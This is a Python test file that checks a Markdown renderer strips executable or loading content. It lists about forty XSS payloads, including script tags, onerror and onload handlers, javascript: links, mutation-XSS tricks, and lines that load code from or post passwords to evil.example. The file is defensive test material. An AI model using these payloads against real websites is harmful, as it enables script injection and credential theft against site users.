"""Organisers' texts: what Markdown becomes, and that nothing in it runs."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from shared.markdown import SCHEMES, TAGS, as_html

# After OWASP's filter evasion cheat sheet and the corpora of markdown-it, DOMPurify and GitHub's advisories.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/count.gif)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "```<img src=x onerror=alert(1)>\n<script>\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>a</script> |\n|---|\n| <img src=x onerror=a> |",
    "\u2028<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
)


class Seen(HTMLParser):
    """Reads HTML as a browser would and keeps what is not allowed."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ("href", "rel", "start", "title"):
                self.wrong.append(f"{tag} {name}")
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value or "", re.IGNORECASE)
            if name == "href" and scheme and scheme[1].lower() not in SCHEMES:
                self.wrong.append(f"{tag} {value}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_text_runs_or_loads(attack: str) -> None:
    seen = Seen()
    seen.feed(as_html(f"前 {attack} 后\n\n{attack}"))
    assert seen.wrong == []


def test_a_text_keeps_its_headings_lists_links_and_tables() -> None:
    html = as_html(
        "# 交通\n\n- **地铁**2号线\n- [地图](https://map.example)\n\n| 时间 | 地点 |\n|---|---|\n| 9:00 | 南门 |"
    )
    assert "<h3>交通</h3>" in html
    assert "<strong>地铁</strong>" in html
    assert '<a href="https://map.example" rel="noopener noreferrer nofollow">' in html
    assert "<td>南门</td>" in html
